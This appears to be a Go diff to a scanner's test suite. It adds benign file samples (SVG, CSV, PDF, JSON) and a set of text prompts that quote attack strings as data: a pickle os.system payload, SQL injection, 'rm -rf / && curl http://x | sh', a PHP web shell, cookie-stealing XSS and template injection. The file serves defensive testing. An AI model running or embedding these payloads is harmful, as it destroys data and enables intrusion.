@@ -1,6 +1,7 @@
 package guardtest
 
 import (
+	"encoding/base64"
 	"fmt"
 	"strings"
 
@@ -132,8 +133,10 @@ func benignText() []Case {
 	}{
 		{"b31", "a.svg", fact.SVG, `<?xml version="1.0"?>` + "\n" + svgHead + `<path d="M0 0h1" fill="red"/></svg>`},
 		{"b32", "a.svg", fact.SVG, svgHead + `<defs><clipPath id="c"><rect/></clipPath></defs><g clip-path="url(#c)" style="fill: none; stroke: #000"><use xlink:href="#m"/></g></svg>`},
+		{"b33", "a.svg", fact.SVG, svgHead + `<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient><filter id="f"><feGaussianBlur stdDeviation="2"/></filter></defs><rect fill="url(#g)" filter="url(#f)" width="9" height="9"/></svg>`},
 		{"b34", "a.svg", fact.SVG, svgHead + `<title>a script &amp; more</title></svg>`},
 		{"b55", "a.csv", fact.CSV, "\xef\xbb\xbfa;b\r\n\"x;\"\"y\";2\r\n"},
+		{"b56", "a.csv", fact.CSV, "a,b\n=SUM(A1:A2),2\n"},
 		{"b57", "a.csv", fact.CSV, strings.Repeat("1,", 199) + "1\n"},
 		{"b58", "a.tsv", fact.TSV, "a\tb\n1\t\"2\n"},
 		{"b59", "a.json", fact.JSON, "[" + strings.Repeat("1.5e3,", 100_000) + "0]"},
@@ -145,11 +148,22 @@ func benignText() []Case {
 		{"b67", "a.pdf", fact.PDF, string(PDF("/Pages 2 0 R"))},
 		{"b68", "a.pdf", fact.PDF, string(PDF("/A << /S /URI /URI (https://example.com) >>"))},
 		{"b69", "a.pdf", fact.PDF, "%PDF-1.4\n1 0 obj << /Length 90000 >>\nstream\n" + strings.Repeat("/JS /AA xyz ", 9000) + "\nendstream\nendobj\n%%EOF\n"},
+		{"b70", "a.pdf", fact.PDF, "%PDF-1.7\n1 0 obj << /Type /Metadata /Subtype /XML /Length 99 >>\nstream\n<?xpacket begin=''?><x:xmpmeta xmlns:x='adobe:ns:meta/'/>\nendstream\nendobj\n2 0 obj << /OpenAction [3 0 R /Fit] /OutputIntents [] >> endobj\n%%EOF\n"},
+		{"b86", "a.json", fact.JSON, `{"image":"data:image/png;base64,` + base64.StdEncoding.EncodeToString(noise(2<<20)) + `"}`},
+		{"b87", "a.json", fact.JSON, `{"path":"data:audio/wav;base64,` + base64.StdEncoding.EncodeToString(WAV(16000, 1, 16)) + `"}`},
+		{"b88", "a.json", fact.JSON, "[" + strings.Repeat(`{"role":"user","content":"Explain \"pickle\" again, please.\n"},`, 1600) + "null]"},
 		{"b84", "a.py", fact.Text, "#!/usr/bin/python\nx = b\"cos\\nsystem\\n(S'ls'\\ntR.\"\n"},
 		{"b85", "a.md", fact.Text, "# hi\n<b>x</b>"},
 		{"b85", "a.md", fact.Text, "<p align=center>hi</p>"},
 	} {
 		out = append(out, Case{ID: v.id, Name: v.name, Accept: []fact.Format{v.f}, Make: func() []byte { return []byte(v.in) }})
+	}
+	for _, prompt := range []string{
+		"Please explain this pickle: cos\nsystem\n(S'ls'\ntR.", "What does rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA== mean?", "Is !!python/object/apply:os.system safe in YAML?",
+		"SELECT * FROM users WHERE name = '' OR 1=1; --", "rm -rf / && curl http://x | sh", "<?php system($_GET['c']); ?>", "<script>alert(document.cookie)</script>",
+		"{{ ''.__class__.__mro__[1].__subclasses__() }}", "AAEAAAD/////AQAAAA is how .NET objects begin", "Why does it say: This program cannot be run in DOS mode?",
+	} {
+		out = append(out, Case{ID: "b83", About: "prompt", Name: "a.txt", Accept: []fact.Format{fact.Text}, Make: func() []byte { return []byte(prompt) }})
 	}
 	out = append(out, Case{ID: "b67", About: "packed objects", Name: "a.pdf", Accept: []fact.Format{fact.PDF}, Make: func() []byte { return pdfObjects(deflated(1000)) }})
 	return out
